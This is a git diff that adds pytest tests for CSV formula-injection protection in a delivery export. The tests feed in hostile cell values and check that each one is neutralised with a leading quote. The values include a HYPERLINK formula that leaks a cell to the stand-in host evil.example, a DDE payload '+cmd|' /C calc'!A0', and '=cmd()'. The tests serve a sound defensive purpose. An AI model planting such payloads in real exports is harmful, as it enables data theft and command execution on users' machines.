@@ -5,7 +5,7 @@ import pytest
 
 from tests.conftest import OTHER_TOKEN, SUPPLIER_TOKEN
 
-from .deliveries_helpers import ADDRESS, put_customer, place, shop  # noqa: F401
+from .deliveries_helpers import ADDRESS, BEER, CHEESE, put_customer, put_product, place, shop  # noqa: F401
 
 EXPECTED = (
     "Delivery ID,Type,Customer ID,Company,Cost Center,Address,Zip,City,Country,User name,User email,"
@@ -78,3 +78,56 @@ def test_the_file_must_be_accepted(delivery):
 def test_unknown_and_foreign_deliveries_are_404(delivery):
     assert download(delivery, "/deliveries/2/csv").status_code == 404
     assert download(delivery, "/deliveries/1/csv", token=OTHER_TOKEN).status_code == 404
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+
+
+@pytest.fixture
+def hostile(shop):
+    """Every text cell a customer or the catalogue writes, each beginning with what a spreadsheet runs."""
+    shop.put("/products/beer", body={**BEER, "name": "@SUM(1+1)"})
+    shop.put("/products/cheese", body={**CHEESE, "name": "-2+3"})
+    place(
+        shop,
+        [
+            {"id": "beer", "count": 2, "bundle": {"id": "crate"}, "message": "+cmd|' /C calc'!A0"},
+            {"id": "cheese", "count": 1.5, "message": "\tindented"},
+        ],
+        message=HYPERLINK,
+        company="=1+2",
+        cost_center="-CC",
+        address={"address1": "@home", "zip": "+00100", "city": "\rCity", "country": "FI"},
+        user={"name": "=cmd()", "email": "olli@example.com"},
+    )
+    return shop
+
+
+def test_text_cells_that_a_spreadsheet_would_run_get_a_leading_quote(hostile):
+    body = download(hostile, "/deliveries/1/csv").body.decode("utf-8-sig")
+    header, order_row, _, _, crate, cheese = body.split("\n")[:6]
+    assert order_row == (
+        "1,DELIVERY,c1,'=1+2,'-CC,'@home,'+00100,\"'\rCity\",FI,'=cmd(),olli@example.com,,,"
+        '"\'=HYPERLINK(""http://evil.example/?""&A2,""Click"")",'
+    )
+    assert crate == "1,beer-crate,'@SUM(1+1),0.33,l,BO,CT,24,,,2,48,150,vessel,'+cmd|' /C calc'!A0"
+    assert cheese == "1,cheese,'-2+3,,,,,,,,1.5,1.5,1200,kg,'\tindented"
+
+
+def test_latin1_guards_the_same_cells(hostile):
+    body = download(hostile, "/deliveries/1/csv?encoding=latin1").body.decode("latin-1")
+    assert body == download(hostile, "/deliveries/1/csv").body.decode("utf-8-sig")
+    assert "'=1+2," in body and "'@SUM(1+1)," in body
+
+
+def test_ids_and_numbers_are_written_as_they_are(shop):
+    """An id may begin with "-" (its characters cannot form a call); counts, sizes and prices stay numbers."""
+    put_product(shop, "-beer", {**BEER, "bundles": [], "name": "Beer"})
+    put_customer("-c", company="Plain", address=ADDRESS)
+    from chalicelib.store import tokens
+
+    tokens.create("acme", "customer", "-c", secret="dash-customer-token")
+    place(shop, [{"id": "-beer", "count": 3}], token="dash-customer-token")
+    lines = download(shop, "/deliveries/1/csv").body.decode("utf-8-sig").split("\n")
+    assert lines[1].startswith("1,DELIVERY,-c,Plain,")
+    assert lines[4] == "1,-beer,Beer,0.33,l,BO,,,,,3,3,150,vessel,"
